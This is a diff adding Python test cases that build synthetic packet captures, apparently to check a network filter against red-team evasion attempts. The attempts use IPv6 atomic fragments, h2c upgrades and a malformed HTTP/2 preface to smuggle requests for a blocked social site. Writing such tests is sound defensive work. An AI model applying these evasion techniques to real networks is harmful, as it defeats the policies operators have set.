+    t.data(True, b"M2 / HTTP/1.1\r\nHost: www.example.org\r\n\r\n")
+    t.data(False, b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+# ------------------------------------------------ IPv6 fragments
+@case
+def case_rt12_frag6_atomic_vk(n):
+    """(Red team round 12) Office IPv6: the GET for m.vk.com in an atomic fragment (offset
+    0, M clear: RFC 6946, taken as a whole packet). Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O6, 54760, SOC6, 80, isn=54760 * 7, rtt_us=20000)
+    t.handshake()
+    req = _rtk_vk_req(n)
+    pkt = IPv6(bytes(IPv6(src=O6, dst=SOC6) / TCP(sport=54760, dport=80, flags="PA", seq=t.cseq,
+                                                    ack=t.sseq, window=64240) / Raw(req)))
+    cap.emit(l2(O6, SOC6) / IPv6(src=O6, dst=SOC6) / IPv6ExtHdrFragment(nh=6, offset=0, m=0, id=0x7777)
+             / Raw(bytes(pkt.payload)), 300)
+    t.cseq += len(req)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+# ------------------------------------------------ the twenty-second session: h2c after a 101
+
+@case
+def case_rt12_h2c_101_late_vk(n):
+    """(The twenty-second session, after rt12_h2c_101_ok) Upgrade: h2c answered 101, the
+    preface and a HEADERS frame on stream 3 for www.example.org, then, in later segments,
+    DATA on stream 3 and a HEADERS frame on stream 5 for m.vk.com (a server serves each
+    stream's :authority). The stream is read on as h2c after the preface
+    (judge_h2w_upgrade). Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54605, SOC, 80, isn=54605 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
+    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
+    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+           + _rt12_h2_headers(3, b"www.example.org", b"x"))
+    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, b"ok" * 50))
+    t.data(True, h2_frame(0, 1, 3, b"y" * 300))
+    t.data(True, _rt12_h2_headers(5, b"m.vk.com", leak(n)))
+    t.data(False, h2_frame(1, 4, 5, b"\x88") + h2_frame(0, 1, 5, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_h2c_101_badpreface_vk(n):
+    """(The twenty-second session) Upgrade: h2c answered 101, then a preface with other
+    bytes in its last line ("PRI * HTTP/2.0\\r\\n\\r\\nXY\\r\\n\\r\\n") and frames
+    for m.vk.com. A server closes on a wrong preface; we check what lies in the segment
+    and refuse it. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54606, SOC, 80, isn=54606 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
+    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
+    t.data(True, b"PRI * HTTP/2.0\r\n\r\nXY\r\n\r\n" + h2_frame(4, 0, 0, b"")
+           + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
+    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt12_h2c_101_bytes_ok(n):
+    """(The twenty-second session) Must-allow: curl --http2 on http:// with a POST: the
+    upgrade request carries a 40-byte body, the server answers 101, the preface cut in
+    two segments (after "PRI * HT"), SETTINGS, a HEADERS frame on stream 3 for
+    www.example.org with DATA, and the server's DATA with the marker."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54607, SOC, 80, isn=54607 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 40\r\n" + H2C_UP
+           + b"\r\n" + b"b" * 40)
+    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
+           + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
+    t.data(True, b"PRI * HT")
+    t.data(True, b"TP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+           + _rt12_h2_headers(3, b"www.example.org", b"x") + h2_frame(0, 1, 3, b"d" * 100))
+    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
 def rt25_hello_exts(seed, exts, sid=None, ciphers=CIPHERS):
     eb = b"".join(exts)
     sid = prand(seed + "s", 32) if sid is None else sid
